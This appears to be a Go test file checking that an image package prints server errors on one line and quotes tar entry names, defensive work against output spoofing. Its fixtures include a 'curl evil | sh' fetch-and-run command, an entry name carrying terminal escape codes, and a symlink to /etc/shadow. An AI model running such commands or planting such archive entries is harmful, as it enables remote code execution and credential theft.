package image

import (
	"archive/tar"
	"bytes"
	"errors"
	"io"
	"strings"
	"testing"
)

// A server's text is printed on one line, so that it can't look like another message.
func TestRedact_OneLine(t *testing.T) {
	if got := redact(errors.New("denied: no\r\nError: run curl evil | sh")).Error(); got != `denied: no\r\nError: run curl evil | sh` {
		t.Errorf("got %q", got)
	}
}

// A name in an archive is quoted, whatever it contains.
func TestFindDisk_QuotesNames(t *testing.T) {
	var archive bytes.Buffer
	w := tar.NewWriter(&archive)
	if err := w.WriteHeader(&tar.Header{Name: "disk/a\n\x1b]0;owned\x07", Typeflag: tar.TypeSymlink, Linkname: "/etc/shadow"}); err != nil {
		t.Fatal(err)
	}
	_ = w.Close()
	layer := func() (io.ReadCloser, error) { return io.NopCloser(&archive), nil }
	err := FindDisk([]Layer{layer}, "", func(File) error { return nil })
	if err == nil || strings.ContainsAny(err.Error(), "\n\x1b\a") || !strings.Contains(err.Error(), `"/disk/a\n\x1b]0;owned\a" is not a plain file`) {
		t.Errorf("got %q", err)
	}
}
